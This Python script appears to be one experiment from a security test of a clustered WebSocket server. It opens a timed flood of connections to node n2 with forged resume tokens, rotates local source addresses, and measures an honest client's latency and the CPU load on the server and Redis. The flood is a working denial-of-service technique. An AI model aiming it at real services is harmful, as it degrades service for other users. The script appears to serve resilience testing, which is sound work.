"""E11: many connections to n2 presenting forged resume tokens that name live node n1's number:
each is held ~4 s while n2 polls Redis. Measures an unrelated client's ping RTT on n2, n2 and Redis CPU."""
import asyncio, time, os, random
import lib11 as L
import websockets

SECS = float(os.environ.get('SECS', '15')); RATE = int(os.environ.get('RATE', '150')); ADDRS = int(os.environ.get('ADDRS', '6'))

async def one(src, num, tok, stats):
    u = L.url(1) + '?token=%s&resume=%s.%032x&received=0' % (tok, num, random.getrandbits(128))
    t = time.time()
    try:
        ws = await websockets.connect(u, ping_interval=None, open_timeout=15, close_timeout=1, local_addr=(src, 0))
        try:
            await ws.recv()
        except websockets.ConnectionClosed as e:
            stats[e.rcvd.code if e.rcvd else None] = stats.get(e.rcvd.code if e.rcvd else None, 0) + 1
            stats['held'] = stats.get('held', 0) + time.time() - t
    except Exception as e:
        k = type(e).__name__ + str(getattr(e, 'response', '') and e.response.status_code)
        stats[k] = stats.get(k, 0) + 1

async def main():
    a = await L.C('victim-owner', 0).connect()
    num = a.welcome.resume_token.split('.')[0]
    h = await L.C('honest', 1).connect()
    await h.join('honest-room')
    base = [await h.ping() for _ in range(20)]
    print('baseline ping ms p50=%.2f max=%.2f' % (sorted(base)[10], max(base)))
    tok = L.jwt('flooder')
    stats = {}
    p2, pr = L.pid(1), int(L.redis('info', 'server').split('process_id:')[1].split()[0])
    c0, r0 = L.cpu_secs(p2), L.cpu_secs(pr)
    cmd0 = int(L.redis('info', 'stats').split('total_commands_processed:')[1].split()[0])
    t0 = time.time(); tasks = []; pings = []; k = 0
    while time.time() - t0 < SECS:
        for _ in range(RATE // 10):
            tasks.append(asyncio.create_task(one('127.0.0.%d' % (10 + k % ADDRS), num, tok, stats))); k += 1
        if k % (RATE // 2) < RATE // 10:
            pings.append(await h.ping())
        await asyncio.sleep(0.1)
    mid = time.time() - t0
    c1, r1 = L.cpu_secs(p2), L.cpu_secs(pr)
    cmd1 = int(L.redis('info', 'stats').split('total_commands_processed:')[1].split()[0])
    rss = L.rss_kib(p2)
    await asyncio.gather(*tasks)
    pings = [x for x in pings if x is not None]
    print('opened %d in %.1fs; outcomes %s' % (k, mid, {x: (round(v) if x == 'held' else v) for x, v in stats.items()}))
    print('avg held s %.2f' % (stats.get('held', 0) / max(1, stats.get(1013, 1))))
    print('ping during ms p50=%.2f p99=%.2f max=%.2f (n=%d)' % (sorted(pings)[len(pings) // 2], sorted(pings)[int(len(pings) * .99)], max(pings), len(pings)))
    print('n2 cpu %.0f%% rss %d MiB; redis cpu %.0f%%; redis cmds/s %.0f' % ((c1 - c0) / mid * 100, rss // 1024, (r1 - r0) / mid * 100, (cmd1 - cmd0) / mid))
    print('honest closed?', h.closed)

asyncio.run(main())
